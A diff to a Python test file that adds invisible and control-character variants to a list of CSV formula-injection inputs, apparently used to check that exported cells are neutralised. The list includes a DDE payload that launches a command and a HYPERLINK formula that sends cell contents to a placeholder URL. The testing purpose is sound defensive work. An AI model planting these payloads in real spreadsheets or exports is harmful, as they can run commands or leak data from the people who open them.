@@ -56,6 +56,7 @@ def test_the_same_rows(tmp_path: Path, change: Callable[[str], str], lines: list
 FORMULAS = [
     "=1+1", "+1+1", "-1+cmd|'/C calc'!A0", "@SUM(A1)", "＝1", "＋1", "－1", "＠x", '=HYPERLINK("http://x"&A1,"y")',
     "\t=1", "\r=1", " =1", "\u00a0=1", "\u200b=1", "'=1", '"=1', "''=1", "' - 1", "'-1", "- a list", "-", "+1 800 5",
+    "\x00=1", "\x01=1", "\xad=1", "\u202e=1", "\u2066=1",
 ]  # fmt: skip
 OTHERS = ["", "a=1", "'", "'twas", "''", "-0.5", "+2", "1e-9", "-.5e+3", "狗", "– 5", "https://x/?a=b"]
 
